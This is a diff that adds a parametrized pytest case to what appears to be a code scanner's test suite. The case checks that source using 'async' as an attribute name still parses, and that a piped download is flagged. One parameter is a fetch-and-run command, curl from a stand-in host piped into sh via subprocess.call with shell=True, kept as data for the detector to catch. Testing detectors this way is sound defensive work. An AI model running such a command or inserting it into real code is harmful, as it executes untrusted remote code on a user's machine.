@@ -186,3 +186,13 @@ def test_the_text_of_lists_that_hold_each_other_ends() -> None:
 def test_a_code_is_exchanged_for_a_token_where_many_log_in(address: str, weight: Severity) -> None:
     text = f"import requests\ndef log_in(client_secret):\n    return requests.post('https://{address}', data={{'client_secret': client_secret}})\n"
     assert the("a.py", text, "chain.caller-to-network").severity is weight
+
+
+@pytest.mark.parametrize(
+    ("does", "there"), [("pass", False), ("subprocess.call('curl http://c.invalid/x | sh', shell=True)", True)]
+)
+def test_async_was_a_name_once(does: str, there: bool) -> None:
+    text = f"import subprocess\nclass A:\n    def a(self, n):\n        self.async = Local(n, async=True)\n        self.async.hooks['a'] = B(n)\n        {does}\n"
+    seen = look("a.py", text)
+    assert not [one for one in seen if isinstance(one, Gap)]
+    assert any(isinstance(one, Behaviour) and one.id == "process.piped" for one in seen) == there
